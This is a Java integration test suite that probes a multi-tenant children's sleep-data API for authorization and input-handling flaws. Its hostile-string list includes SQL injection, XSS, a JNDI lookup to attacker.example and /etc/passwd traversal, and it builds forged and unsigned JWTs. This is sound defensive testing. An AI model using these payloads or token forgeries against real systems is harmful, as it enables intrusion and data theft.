package org.zenmoon.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.JsonObject;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.PrivateKey;
import java.sql.Connection;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The adversarial suite: every endpoint tried by every role against what lies behind its walls (another tenant,
 * another class, another family), with tokens that must not work, and with hostile strings and bodies. Every
 * attempt must get the right 4xx, never a 5xx and never data, and the database must be unchanged afterwards
 * (a checksum of each tenant's rows in every tenant-owned table). The totals go to
 * {@code target/adversarial-summary.txt} for the issue's closing note.
 *
 * <p>Later issues add their endpoints to {@link #CHILD_ENDPOINTS} (and the roles that may use them), so that the
 * walls are tried for them too.
 */
class AdversarialIT {

    /**
     * An endpoint about one thing (a child, an account, a cohort): its path (or body) with {@code {id}}, and who may
     * use it.
     */
    record Endpoint(String method, String path, String body, Set<String> roles) {}

    static final Set<String> READERS = Set.of("TENANT_ADMIN", "COUNSELLOR", "CLINICIAN", "GUARDIAN");
    static final Set<String> STAFF = Set.of("TENANT_ADMIN", "COUNSELLOR", "CLINICIAN");
    static final Set<String> ADMIN = Set.of("TENANT_ADMIN");
    static final Set<String> RECORDS = Set.of("TENANT_ADMIN", "GUARDIAN");
    static final Set<String> GUARDIAN = Set.of("GUARDIAN");

    static final String ACTIVITY =
            "{\"type\":\"mindfulness\",\"start\":\"2026-11-30T15:00:00Z\"," + "\"end\":\"2026-11-30T15:20:00Z\"}";

    /** Every endpoint about one child. Later issues add theirs here. */
    static final List<Endpoint> CHILD_ENDPOINTS = List.of(
            new Endpoint("GET", "/children/{id}", null, READERS),
            new Endpoint("GET", "/children/{id}/chronotype", null, READERS),
            new Endpoint("GET", "/children/{id}/forecast", null, READERS),
            new Endpoint("GET", "/children/{id}/causal-effects", null, READERS),
            new Endpoint("GET", "/children/{id}/consents", null, READERS),
            new Endpoint(
                    "POST", "/children/{id}/consents", "{\"scope\":\"analysis\",\"noticeVersion\":\"v1\"}", GUARDIAN),
            new Endpoint("DELETE", "/children/{id}/consents/collection", null, GUARDIAN),
            new Endpoint("POST", "/children/{id}/guardians", "{\"username\":\"parent\"}", ADMIN),
            new Endpoint("DELETE", "/children/{id}/guardians/u-parent", null, ADMIN),
            new Endpoint("POST", "/children/{id}/interventions", ACTIVITY, STAFF),
            new Endpoint("GET", "/children/{id}/disclosures", null, RECORDS),
            new Endpoint("GET", "/children/{id}/export", null, RECORDS),
            new Endpoint("GET", "/children/{id}/export/epochs.csv", null, RECORDS),
            new Endpoint("DELETE", "/children/{id}", null, ADMIN),
            new Endpoint("GET", "/children/{id}/epochs", null, READERS),
            new Endpoint("GET", "/children/{id}/sleep-episodes", null, READERS),
            new Endpoint("GET", "/children/{id}/events", null, READERS),
            new Endpoint("GET", "/children/{id}/devices", null, READERS),
            new Endpoint("GET", "/children/{id}/recommendations/next", null, READERS),
            new Endpoint("GET", "/children/{id}/recommendations", null, READERS),
            new Endpoint("POST", "/devices/pair", "{\"childId\":\"{id}\",\"label\":\"Watch\"}", READERS));

    /** Every endpoint about one account. */
    static final List<Endpoint> USER_ENDPOINTS = List.of(
            new Endpoint("GET", "/users/{id}", null, ADMIN),
            new Endpoint("PATCH", "/users/{id}", "{\"roles\":[\"TENANT_ADMIN\"]}", ADMIN),
            new Endpoint("PUT", "/users/{id}/password", "{\"password\":\"a new long passphrase\"}", ADMIN),
            new Endpoint("POST", "/users/{id}/disable", null, ADMIN));

    /** Every endpoint about one cohort. */
    static final List<Endpoint> COHORT_ENDPOINTS = List.of(
            new Endpoint("POST", "/cohorts/{id}/events", ACTIVITY, STAFF),
            new Endpoint("GET", "/cohorts/{id}/summary", null, STAFF),
            new Endpoint("GET", "/cohorts/{id}/causal-effects", null, STAFF));

    /** The demo logins and their one role. */
    static final Map<String, String> ROLE = Map.of(
            "admin", "PLATFORM_ADMIN",
            "school.admin", "TENANT_ADMIN",
            "counsellor", "COUNSELLOR",
            "parent", "GUARDIAN",
            "clinic.admin", "TENANT_ADMIN",
            "clinician", "CLINICIAN");

    static final List<String> HOSTILE = List.of(
            "' OR '1'='1",
            "'; DROP TABLE child; --",
            "<script>alert('zenmoon')</script>",
            "\"><img src=x onerror=alert(1)>",
            "nul\u0000byte",
            "bell\u0007escape\u001b[31m",
            "${jndi:ldap://attacker.example/x}",
            "../../../../etc/passwd",
            "%00%27",
            "\u202eevil",
            "x".repeat(5000));

    static Http http;
    /** Where the failed log-ins come from: the throttle counts them against this address, not the other tests'. */
    static final String ATTACKER = "127.0.0.9";

    static LaunchedServer server;
    static final Map<String, String> tokens = new LinkedHashMap<>();
    static Map<String, Long> checksumsBefore;
    static final String ADVERSARY_PASSWORD = "an adversary's own passphrase";
    static String adversaryTenantId;
    static String adversaryCohort;
    static String adversaryChild;

    static Set<String> schoolChildren;
    static Set<String> clinicChildren;
    static Set<String> counsellorChildren;
    static Set<String> parentChildren;

    static int attempts;
    static int serverErrors;
    static int leaks;
    static final List<String> wrong = new ArrayList<>();

    @BeforeAll
    static void world() throws Exception {
        server = SharedServer.get();
        http = new Http(server.baseUrl());
        for (String user : ROLE.keySet()) {
            tokens.put(user, http.token(user));
        }
        schoolChildren = ids("school.admin");
        clinicChildren = ids("clinic.admin");
        counsellorChildren = ids("counsellor");
        parentChildren = ids("parent");
        adversaryTenant();
        try (Connection db = SharedServer.ownerConnection()) {
            checksumsBefore = Database.tenantChecksums(db);
        }
    }

    /**
     * A school of the suite's own, where hostile strings go into every text field of the API: what it stores may
     * change, every other tenant's rows may not.
     */
    static void adversaryTenant() throws Exception {
        String suffix = Long.toString(System.nanoTime(), 36);
        Http.Reply tenant = http.post(
                "/api/v1/tenants",
                "{\"name\":\"Adversary School " + suffix + "\",\"kind\":\"SCHOOL\",\"legalRegime\":\"FERPA\","
                        + "\"retentionDays\":365,\"adminUsername\":\"adversary.admin." + suffix
                        + "\",\"adminPassword\":\"" + ADVERSARY_PASSWORD + "\"}",
                tokens.get("admin"));
        assertThat(tenant.status()).as(tenant.body()).isEqualTo(201);
        adversaryTenantId = tenant.object().getString("tenantId");
        Http.Reply login = http.login("adversary.admin." + suffix, ADVERSARY_PASSWORD);
        assertThat(login.status()).as(login.body()).isEqualTo(200);
        tokens.put("adversary.admin", login.object().getString("accessToken"));
        Http.Reply cohort = http.post(
                "/api/v1/cohorts", "{\"name\":\"Class X\",\"kind\":\"CLASS\"}", tokens.get("adversary.admin"));
        assertThat(cohort.status()).as(cohort.body()).isEqualTo(201);
        adversaryCohort = cohort.object().getString("cohortId");
        Http.Reply child = http.post(
                "/api/v1/children",
                "{\"pseudonym\":\"Target-1\",\"birthYear\":2015,\"cohortId\":\"" + adversaryCohort + "\"}",
                tokens.get("adversary.admin"));
        assertThat(child.status()).as(child.body()).isEqualTo(201);
        adversaryChild = child.object().getString("childId");
    }

    @AfterAll
    static void summary() throws Exception {
        Map<String, Long> after;
        try (Connection db = SharedServer.ownerConnection()) {
            after = Database.tenantChecksums(db);
        }
        String summary = String.format(
                "adversarial suite: %d endpoints x %d roles, %d attempts, %d x 5xx, %d leaks, %d wrong answers%n",
                CHILD_ENDPOINTS.size() + USER_ENDPOINTS.size() + COHORT_ENDPOINTS.size() + 4,
                ROLE.size(),
                attempts,
                serverErrors,
                leaks,
                wrong.size());
        Files.writeString(Path.of("target", "adversarial-summary.txt"), summary);
        System.out.print(summary);
        wrong.forEach(System.out::println);
        // Nothing an attacker sent, and no secret, reaches the server's log.
        String log = Files.readString(server.home.resolve("payara-micro.log"));
        for (String secret : List.of(
                ADVERSARY_PASSWORD,
                "demo-guess",
                tokens.get("counsellor"),
                "attacker.example",
                "DROP TABLE child",
                "onerror=alert",
                "alert('zenmoon')")) {
            if (log.contains(secret)) {
                wrong.add("the server log contains " + shortly(secret));
            }
        }
        assertThat(wrong).as("after every attempt").isEmpty();
        // Every tenant but the suite's own (where hostile strings may be stored) is as it was.
        after.keySet().removeIf(k -> !checksumsBefore.containsKey(k) || k.startsWith(adversaryTenantId + "/"));
        checksumsBefore.keySet().removeIf(k -> k.startsWith(adversaryTenantId + "/"));
        assertThat(after).as("each tenant's rows after the attack").isEqualTo(checksumsBefore);
    }

    @Test
    void nobodyReachesAChildBehindAWall() throws Exception {
        Set<String> unassignedClass = minus(schoolChildren, counsellorChildren);
        assertThat(unassignedClass)
                .as("the demo's class the counsellor does not look after")
                .isNotEmpty();
        Set<String> otherFamilies = minus(counsellorChildren, parentChildren);
        Map<String, Set<String>> behindWalls = new LinkedHashMap<>();
        behindWalls.put("school.admin", clinicChildren);
        behindWalls.put("counsellor", union(clinicChildren, unassignedClass));
        behindWalls.put("parent", union(clinicChildren, union(otherFamilies, unassignedClass)));
        behindWalls.put("clinic.admin", schoolChildren);
        behindWalls.put("clinician", schoolChildren);
        behindWalls.put("admin", union(schoolChildren, clinicChildren));
        attack(behindWalls, CHILD_ENDPOINTS);

        // Lists show only what is in scope.
        for (var wall : behindWalls.entrySet()) {
            Http.Reply r = http.get("/api/v1/children", tokens.get(wall.getKey()));
            attempts++;
            for (String child : wall.getValue()) {
                if (r.status() == 200 && r.body().contains(child)) {
                    leaks++;
                    wrong.add(wall.getKey() + " GET /children lists " + child);
                }
            }
        }
        assertThat(wrong).isEmpty();
    }

    @Test
    void nobodyReachesAnotherTenantsAccountsOrCohorts() throws Exception {
        Set<String> schoolUsers = field("school.admin", "/api/v1/users", "userId");
        Set<String> clinicUsers = field("clinic.admin", "/api/v1/users", "userId");
        Set<String> schoolCohorts = field("school.admin", "/api/v1/cohorts", "cohortId");
        Set<String> clinicCohorts = field("clinic.admin", "/api/v1/cohorts", "cohortId");
        Set<String> counsellorCohorts = field("counsellor", "/api/v1/cohorts", "cohortId");
        assertThat(clinicUsers).isNotEmpty();

        Map<String, Set<String>> users = new LinkedHashMap<>();
        users.put("school.admin", clinicUsers);
        users.put("clinic.admin", schoolUsers);
        users.put("counsellor", union(schoolUsers, clinicUsers));
        users.put("parent", schoolUsers);
        users.put("admin", union(schoolUsers, clinicUsers));
        attack(users, USER_ENDPOINTS);

        Map<String, Set<String>> cohorts = new LinkedHashMap<>();
        cohorts.put("school.admin", clinicCohorts);
        cohorts.put("counsellor", union(clinicCohorts, minus(schoolCohorts, counsellorCohorts)));
        cohorts.put("clinician", schoolCohorts);
        cohorts.put("parent", union(schoolCohorts, clinicCohorts));
        cohorts.put("admin", clinicCohorts);
        attack(cohorts, COHORT_ENDPOINTS);
        assertThat(wrong).isEmpty();
    }

    /** Each user tries every endpoint on (a few of) the ids behind its walls: 404 if its role may use it, else 403. */
    static void attack(Map<String, Set<String>> behindWalls, List<Endpoint> endpoints) throws Exception {
        for (var wall : behindWalls.entrySet()) {
            String user = wall.getKey();
            for (String id : sample(wall.getValue(), 3)) {
                for (Endpoint e : endpoints) {
                    int expected = e.roles().contains(ROLE.get(user)) ? 404 : 403;
                    Http.Reply r = http.send(
                            e.method(),
                            "/api/v1" + e.path().replace("{id}", id),
                            e.body() == null ? null : e.body().replace("{id}", id),
                            tokens.get(user));
                    judge(user + " " + e.method() + " " + e.path() + " behind a wall", r, Set.of(expected), id);
                }
            }
        }
    }

    @Test
    void rolesWithoutThePermissionAreRefused() throws Exception {
        for (String user : List.of("counsellor", "clinician", "parent")) {
            judge(
                    user + " POST /admin/jobs/chronotype",
                    http.post("/api/v1/admin/jobs/chronotype", "", tokens.get(user)),
                    Set.of(403),
                    null);
            judge(user + " GET /admin/jobs", http.get("/api/v1/admin/jobs", tokens.get(user)), Set.of(403), null);
            judge(
                    user + " POST /admin/jobs/1/restart",
                    http.post("/api/v1/admin/jobs/1/restart", "", tokens.get(user)),
                    Set.of(403),
                    null);
            judge(
                    user + " GET /admin/ab-report",
                    http.get("/api/v1/admin/ab-report", tokens.get(user)),
                    Set.of(403),
                    null);
            judge(
                    user + " POST /admin/jobs/retention",
                    http.post("/api/v1/admin/jobs/retention", "", tokens.get(user)),
                    Set.of(403),
                    null);
            judge(
                    user + " GET /admin/settings",
                    http.get("/api/v1/admin/settings", tokens.get(user)),
                    Set.of(403),
                    null);
            judge(
                    user + " PATCH /admin/settings",
                    http.send("PATCH", "/api/v1/admin/settings", "{\"retentionDays\":1}", tokens.get(user)),
                    Set.of(403),
                    null);
            judge(
                    user + " GET /cohorts/all/causal-effects",
                    http.get("/api/v1/cohorts/all/causal-effects", tokens.get(user)),
                    Set.of(403),
                    null);
        }
        assertThat(wrong).isEmpty();
    }

    @Test
    void tokensThatMustNotWork() throws Exception {
        String good = tokens.get("counsellor");
        String claims = Tokens.claims(good);
        PrivateKey key = Tokens.serverKey(server.home);
        long now = Instant.now().getEpochSecond();
        Map<String, String> bad = new LinkedHashMap<>();
        bad.put("none", null);
        bad.put("garbage", "not.a.token");
        bad.put("tampered signature", good.substring(0, good.length() - 4) + (good.endsWith("AAAA") ? "BBBB" : "AAAA"));
        bad.put("tampered claims (upn)", swapClaims(good, claims.replace("\"counsellor\"", "\"school.admin\"")));
        bad.put("alg none", Tokens.unsigned(claims));
        bad.put("another key", Tokens.rs256(Tokens.someOtherKey(), claims));
        bad.put("expired", Tokens.rs256(key, withTimes(claims, now - 7200, now - 3600, now - 7200)));
        bad.put("not yet valid", Tokens.rs256(key, withTimes(claims, now, now + 7200, now + 3600)));
        bad.put(
                "wrong audience",
                Tokens.rs256(key, claims.replaceAll("\"aud\":(\"[^\"]*\"|\\[[^\\]]*\\])", "\"aud\":\"someone-else\"")));
        bad.put("no audience", Tokens.rs256(key, claims.replaceAll(",?\"aud\":(\"[^\"]*\"|\\[[^\\]]*\\])", "")));
        bad.put("wrong issuer", Tokens.rs256(key, claims.replaceAll("\"iss\":\"[^\"]*\"", "\"iss\":\"attacker\"")));
        bad.put("old token version", Tokens.rs256(key, claims.replaceAll("\"ver\":\\d+", "\"ver\":-1")));
        bad.put(
                "device token of no device",
                "zmd." + adversaryTenantId + "." + UUID.randomUUID() + "." + "A".repeat(43));
        bad.put("device token, malformed", "zmd." + adversaryTenantId + ".x");
        bad.put("device token naming no tenant", "zmd.." + UUID.randomUUID() + "." + "A".repeat(43));
        for (var e : bad.entrySet()) {
            Http.Reply r = http.get("/api/v1/children", e.getValue());
            judge("token: " + e.getKey(), r, Set.of(401), null);
        }
        assertThat(wrong).isEmpty();
    }

    @Test
    void hostileStringsGetA4xxNeverA5xx() throws Exception {
        String counsellor = tokens.get("counsellor");
        for (String s : HOSTILE) {
            String json = jsonString(s);
            judge(
                    "log-in user name " + shortly(s),
                    http.postFrom(
                            ATTACKER, "/api/v1/auth/token", "{\"username\":" + json + ",\"password\":\"demo-guess\"}"),
                    Set.of(400, 401, 429),
                    null);
            judge(
                    "log-in password " + shortly(s),
                    http.postFrom(
                            ATTACKER, "/api/v1/auth/token", "{\"username\":\"nobody.here\",\"password\":" + json + "}"),
                    Set.of(400, 401, 429),
                    null);
            String segment = URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
            judge(
                    "child id " + shortly(s),
                    http.get("/api/v1/children/" + segment, counsellor),
                    Set.of(400, 404),
                    null);
        }
        judge(
                "wrong JSON type",
                http.post("/api/v1/auth/token", "{\"username\":[1,2],\"password\":{}}"),
                Set.of(400),
                null);
        judge("not JSON at all", http.post("/api/v1/auth/token", "\u0000\u0001\u0002"), Set.of(400), null);
        assertThat(wrong).isEmpty();
    }

    /**
     * Hostile strings in every text field a tenant admin or staff member writes: each is stored exactly as sent
     * (201) or refused with the field named (400); never a 5xx.
     */
    @Test
    void hostileTextFieldsAreStoredVerbatimOrRefusedByName() throws Exception {
        String admin = tokens.get("adversary.admin");
        for (String s : HOSTILE) {
            String v = jsonString(s);
            Map<String, String[]> writes = new LinkedHashMap<>();
            writes.put("cohort name", new String[] {"/cohorts", "{\"name\":" + v + ",\"kind\":\"CLASS\"}", "name"});
            writes.put("pseudonym", new String[] {
                "/children",
                "{\"pseudonym\":" + v + ",\"birthYear\":2015,\"cohortId\":\"" + adversaryCohort + "\"}",
                "pseudonym"
            });
            writes.put("user name", new String[] {
                "/users",
                "{\"username\":" + v + ",\"password\":\"" + ADVERSARY_PASSWORD + " 2\",\"roles\":[\"GUARDIAN\"]}",
                "username"
            });
            writes.put("password", new String[] {
                "/users", "{\"username\":\"guardian.x\",\"password\":" + v + ",\"roles\":[\"GUARDIAN\"]}", "password"
            });
            writes.put("intervention type", new String[] {
                "/children/" + adversaryChild + "/interventions",
                "{\"type\":" + v + ",\"start\":\"2026-11-30T15:00:00Z\",\"end\":\"2026-11-30T15:20:00Z\"}",
                "type"
            });
            writes.put("event type", new String[] {
                "/cohorts/" + adversaryCohort + "/events",
                "{\"type\":" + v + ",\"start\":\"2026-11-30T15:00:00Z\",\"end\":\"2026-11-30T15:20:00Z\"}",
                "type"
            });
            writes.put("intervention start", new String[] {
                "/children/" + adversaryChild + "/interventions",
                "{\"type\":\"walk\",\"start\":" + v + ",\"end\":\"2026-11-30T15:20:00Z\"}",
                "start"
            });
            writes.put("device label", new String[] {
                "/devices/pair", "{\"childId\":\"" + adversaryChild + "\",\"label\":" + v + "}", "label"
            });
            for (var w : writes.entrySet()) {
                Http.Reply r = http.post("/api/v1" + w.getValue()[0], w.getValue()[1], admin);
                judge(w.getKey() + " " + shortly(s), r, Set.of(201, 400, 409), null);
                if (r.status() == 400 && !r.body().contains("\"field\":\"" + w.getValue()[2] + "\"")) {
                    wrong.add(w.getKey() + " " + shortly(s) + ": the 400 does not name " + w.getValue()[2] + ": "
                            + shortly(r.body()));
                }
            }
            // Hostile read-back parameters are refused by name.
            String query = URLEncoder.encode(s, StandardCharsets.UTF_8);
            for (String parameter : List.of("from", "to", "limit", "cursor")) {
                Http.Reply r =
                        http.get("/api/v1/children/" + adversaryChild + "/epochs?" + parameter + "=" + query, admin);
                judge("read-back " + parameter + " " + shortly(s), r, Set.of(400), null);
                if (r.status() == 400 && !r.body().contains("\"field\":\"" + parameter + "\"")) {
                    wrong.add("read-back " + parameter + " " + shortly(s) + ": the 400 does not name it: "
                            + shortly(r.body()));
                }
            }
            // A pseudonym that was stored comes back exactly as sent.
            for (JsonObject c :
                    http.get("/api/v1/children", admin).json().asJsonArray().getValuesAs(JsonObject.class)) {
                String p = c.getString("pseudonym");
                if (p.contains("zenmoon") && !HOSTILE.contains(p)) {
                    wrong.add("pseudonym came back changed: " + shortly(p));
                }
            }
        }
        assertThat(wrong).isEmpty();
    }

    /**
     * Bodies the server stops reading part-way. Each is sent on a client of its own, which then asks again: a
     * connection left with unread bytes must be closed, not reused to misread the next request.
     */
    @Test
    void oversizedAndDeeplyNestedBodiesLeaveTheConnectionUsable() throws Exception {
        Map<String, String> bodies = new LinkedHashMap<>();
        bodies.put("deep nesting", "[".repeat(100_000));
        bodies.put("oversized body", "{\"username\":\"" + "a".repeat(3 << 20) + "\",\"password\":\"x\"}");
        for (var b : bodies.entrySet()) {
            Http own = new Http(server.baseUrl());
            try {
                judge(b.getKey(), own.post("/api/v1/auth/token", b.getValue()), Set.of(400, 413), null);
            } catch (IOException e) {
                // Closing the connection before the whole body is sent is a fair refusal.
                attempts++;
            }
            judge(
                    b.getKey() + ", then a good request on the same client",
                    own.get("/api/v1/children", tokens.get("counsellor")),
                    Set.of(200),
                    null);
        }
        assertThat(wrong).isEmpty();
    }

    // --- the ledger ---

    static void judge(String what, Http.Reply r, Set<Integer> expected, String walledChild) {
        attempts++;
        if (r.status() >= 500) {
            serverErrors++;
        }
        boolean refusalExpected = expected.stream().allMatch(code -> code >= 400);
        if (refusalExpected && r.status() < 400) {
            leaks++;
        }
        if (r.body().contains("Exception") || r.body().matches("(?s).*\\bat [a-z]+\\.[a-z][\\w.$]*\\(.*")) {
            wrong.add(what + ": the answer shows server internals: " + shortly(r.body()));
        }
        if (!expected.contains(r.status())) {
            wrong.add(what + ": expected " + expected + ", got " + r.status() + " " + shortly(r.body()));
        } else if (r.status() >= 400
                && !r.contentType().startsWith("application/problem+json")
                // The container refuses some paths (an encoded slash or NUL) before the application sees them.
                && !(r.status() == 400 && r.body().isEmpty() && what.startsWith("child id"))) {
            wrong.add(what + ": " + r.status() + " without a problem document (" + r.contentType() + ")");
        }
    }

    static Set<String> ids(String user) throws IOException, InterruptedException {
        Set<String> ids = new HashSet<>();
        for (JsonObject child : http.get("/api/v1/children", http.token(user))
                .json()
                .asJsonArray()
                .getValuesAs(JsonObject.class)) {
            ids.add(child.getString("childId"));
        }
        return ids;
    }

    static Set<String> field(String user, String path, String name) throws IOException, InterruptedException {
        Set<String> ids = new HashSet<>();
        for (JsonObject o :
                http.get(path, tokens.get(user)).json().asJsonArray().getValuesAs(JsonObject.class)) {
            ids.add(o.getString(name));
        }
        return ids;
    }

    static Set<String> minus(Set<String> a, Set<String> b) {
        Set<String> out = new HashSet<>(a);
        out.removeAll(b);
        return out;
    }

    static Set<String> union(Set<String> a, Set<String> b) {
        Set<String> out = new HashSet<>(a);
        out.addAll(b);
        return out;
    }

    static List<String> sample(Set<String> ids, int n) {
        return ids.stream().sorted().limit(n).toList();
    }

    static String withTimes(String claims, long iat, long exp, long nbf) {
        String c = claims.replaceAll("\"iat\":\\d+", "\"iat\":" + iat)
                .replaceAll("\"exp\":\\d+", "\"exp\":" + exp)
                .replaceAll(",\"nbf\":\\d+", "");
        return c.substring(0, c.length() - 1) + ",\"nbf\":" + nbf + "}";
    }

    static String swapClaims(String token, String claims) {
        String[] parts = token.split("\\.");
        return parts[0] + "."
                + java.util.Base64.getUrlEncoder()
                        .withoutPadding()
                        .encodeToString(claims.getBytes(StandardCharsets.UTF_8))
                + "." + parts[2];
    }

    static String jsonString(String s) {
        return jakarta.json.Json.createValue(s).toString();
    }

    static String shortly(String s) {
        String printable = s.replaceAll("\\p{Cntrl}", "?");
        return printable.length() > 60 ? printable.substring(0, 60) + "…" : printable;
    }
}
